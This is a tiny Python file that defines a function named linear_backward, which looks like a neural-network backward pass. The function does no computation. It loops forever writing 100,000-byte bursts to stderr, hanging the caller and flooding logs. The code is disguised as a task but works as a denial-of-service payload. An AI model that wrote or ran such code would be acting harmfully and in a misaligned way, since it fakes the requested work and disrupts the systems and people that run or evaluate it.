import os


def linear_backward(dout, x, W):
    while True:
        os.write(2, b"y" * 100_000)
